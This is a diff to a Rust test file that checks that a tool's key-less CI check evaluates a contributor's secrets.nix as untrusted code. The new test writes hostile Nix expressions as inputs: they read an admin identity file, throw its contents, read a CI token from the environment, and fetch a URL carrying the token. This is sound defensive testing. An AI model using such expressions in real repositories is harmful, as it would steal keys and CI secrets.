@@ -497,13 +497,15 @@ fn nix_errors_keep_their_position() {
     repo.write_nix("{\n  \"a.age\".publicKeys = [ nobody ];\n}\n");
     assert_eq!(
         fails(&repo.bento(&["verify"])),
-        "error: secrets/secrets.nix:8: column 26: nix-instantiate failed: undefined variable 'nobody'"
+        "error: secrets/secrets.nix:8: column 26: nix-instantiate failed: an undefined variable \
+         (Nix's own message is not shown, as it may quote what the file computed; run \
+         `nix-instantiate --eval --strict` on it to read it)"
     );
     repo.write_nix("{\n  \"a.age\".publicKeys = [ user1 ];\n");
     let err = fails(&repo.bento(&["verify"]));
     assert!(
         err.starts_with("error: secrets/secrets.nix:8: column 34: ")
-            && err.contains("nix-instantiate failed: syntax error"),
+            && err.contains("nix-instantiate failed: a syntax error"),
         "{err}"
     );
 }
@@ -632,4 +634,90 @@ fn secrets_named_by_file_name_and_errors_name_secrets_nix() {
             && !said.contains("secrets.toml"),
         "{said}"
     );
+}
+
+/// A contributor's `secrets.nix` is evaluated as untrusted code by the key-less CI check:
+/// it reads nothing outside its own directory, sees no environment, reaches no network, and
+/// what it computed never appears in bento's output.
+#[test]
+fn a_hostile_secrets_nix_reads_and_sends_nothing() {
+    if !crate::harness::needs_nix() {
+        return;
+    }
+    let repo = agenix_repo();
+    // An admin identity outside the rules' directory, a token in the environment.
+    let identity = std::fs::read_to_string(&repo.user).unwrap();
+    let marker = identity.lines().nth(1).unwrap().to_owned();
+    let token = "ci-token-7f3a9c";
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let key = repo.user.display();
+    let run = |body: &str| {
+        repo.write_nix(body);
+        let out = repo
+            .fleet
+            .cmd(&["secret", "--rules", "secrets/secrets.nix", "verify"])
+            .current_dir(repo.dir.parent().unwrap())
+            .env("CI_TOKEN", token)
+            .output()
+            .unwrap();
+        let text = format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert!(!out.status.success(), "{body}: {text}");
+        assert!(!text.contains(token) && !text.contains(&marker), "{text}");
+        text
+    };
+    // A file read outside the directory: refused by the evaluator, named by position only.
+    let err = run(&format!(
+        "{{\n  \"a.age\".publicKeys = [ (builtins.readFile {key}) ];\n}}\n"
+    ));
+    assert!(
+        err.contains("secrets/secrets.nix:8: column")
+            && err.contains("reads a file outside its own directory"),
+        "{err}"
+    );
+    // The file's content thrown as an error message: never quoted.
+    run(&format!(
+        "{{\n  \"a.age\".publicKeys = [ (throw (builtins.readFile {key})) ];\n}}\n"
+    ));
+    // The environment: empty to the evaluator, so the token is neither thrown nor a key.
+    run("{\n  \"a.age\".publicKeys = [ (throw (builtins.getEnv \"CI_TOKEN\")) ];\n}\n");
+    let err = run("{\n  \"a.age\".publicKeys = [ (\"x\" + builtins.getEnv \"CI_TOKEN\") ];\n}\n");
+    assert!(err.contains("publicKeys"), "{err}");
+    // The network: no request leaves, whatever the URL carries.
+    let err = run(&format!(
+        "{{\n  \"a.age\".publicKeys = [ (builtins.readFile (builtins.fetchurl \
+         \"http://127.0.0.1:{port}/?k=${{builtins.getEnv \"CI_TOKEN\"}}\")) ];\n}}\n"
+    ));
+    assert!(
+        err.contains("reads a file outside its own directory, a URI"),
+        "{err}"
+    );
+    assert!(
+        listener.accept().is_err(),
+        "the evaluation connected to the test's listener"
+    );
+    // Files beside secrets.nix are still read: the usual `import ./keys.nix`.
+    std::fs::write(
+        repo.dir.join("keys.nix"),
+        format!(
+            "{{ user1 = \"{}\"; system1 = \"{}\"; system2 = \"{}\"; }}\n",
+            pub_line(&repo.user),
+            pub_line(&repo.host1),
+            pub_line(&repo.host2)
+        ),
+    )
+    .unwrap();
+    std::fs::write(
+        repo.dir.join("secrets.nix"),
+        "with import ./keys.nix; {\n  \"secret1.age\".publicKeys = [ user1 system1 ];\n  \
+         \"secret2.age\" = { publicKeys = [ user1 system1 system2 ]; armor = true; };\n  \
+         \"admin-only.age\".publicKeys = [ user1 ];\n}\n",
+    )
+    .unwrap();
+    ok(&repo.bento(&["verify"]));
 }
